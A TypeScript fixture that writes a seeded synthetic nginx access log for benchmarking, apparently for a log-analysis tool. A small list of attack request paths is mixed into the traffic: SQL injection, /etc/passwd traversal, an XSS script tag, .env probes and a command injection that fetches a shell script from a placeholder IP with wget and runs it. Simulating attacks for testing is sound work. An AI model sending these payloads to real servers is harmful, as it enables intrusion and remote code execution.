import { closeSync, existsSync, mkdirSync, openSync, renameSync, writeSync } from 'node:fs'
import { dirname } from 'node:path'
import { Random } from '../../src/app/sample/random.ts'

const AGENTS = Array.from({ length: 400 }, (_, i) =>
  i % 3 === 0
    ? `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${100 + (i % 43)}.0.${i}.0 Safari/537.36`
    : `Mozilla/5.0 (X11; Linux x86_64; rv:${80 + (i % 64)}.0) Gecko/20100101 Firefox/${80 + (i % 64)}.0`,
)
const ATTACKS = [
  (n: number) => `/item?id=${n}%27%20UNION%20SELECT%20null,version(),${n}--%20-`,
  (n: number) => `/index.php?page=../../../../../../etc/passwd%00&n=${n}`,
  (n: number) => `/search?q=%3Cscript%3Ealert(${n})%3C/script%3E`,
  (n: number) =>
    `/cgi-bin/ping.cgi?host=127.0.0.1;wget\${IFS}http://203.0.113.9/${n}.sh;sh\${IFS}${n}.sh`,
  (n: number) => `/wp-content/plugins/x${n % 50}/readme.txt`,
  (n: number) => `/.env?${n}`,
] as const
const STATUSES = [200, 200, 200, 200, 200, 304, 301, 404, 404, 500] as const

/**
 * A seeded log in nginx's combined format: 50,000 addresses, a third of the targets distinct, 3 % attacks, about 219 bytes
 * a line. Written once; the same for the same number of lines.
 */
export function benchLog(path: string, lines: number): string {
  if (existsSync(path)) return path
  mkdirSync(dirname(path), { recursive: true })
  const random = new Random(1)
  const file = openSync(`${path}.part`, 'w')
  let text = ''
  for (let i = 0; i < lines; i++) {
    text += benchLine(random, i, lines)
    if (text.length < 4 << 20) continue
    writeSync(file, text)
    text = ''
  }
  writeSync(file, text)
  closeSync(file)
  renameSync(`${path}.part`, path)
  return path
}

function benchLine(random: Random, i: number, lines: number): string {
  const host = random.between(0, 49_999)
  const source = `198.${18 + (host >> 16)}.${(host >> 8) & 255}.${host & 255}`
  const second = Math.floor((i * 7 * 86_400) / lines)
  const clock = new Date(Date.UTC(2026, 10, 9) + second * 1000)
  const [, day = '', month = '', year = '', time = ''] =
    /^\w+, (\d+) (\w+) (\d+) (\S+)/.exec(clock.toUTCString()) ?? []
  const page = random.between(0, 3_000)
  const target = random.chance(0.03)
    ? random.pick(ATTACKS)(random.between(1, 5_000))
    : random.chance(0.33)
      ? `/shop/item-${page}/view?session=${random.between(1, 9_999_999)}`
      : `/shop/category-${page % 40}/item-${page}.html`
  const referrer = random.chance(0.4)
    ? '-'
    : `https://www.example.org/shop/category-${page % 40}/${random.between(1, 900)}`
  const agent = AGENTS[Math.floor(random.next() * random.next() * AGENTS.length)] ?? ''
  return `${source} - - [${day}/${month}/${year}:${time} +0000] "GET ${target} HTTP/1.1" ${random.pick(STATUSES)} ${random.between(150, 90_000)} "${referrer}" "${agent}"\n`
}
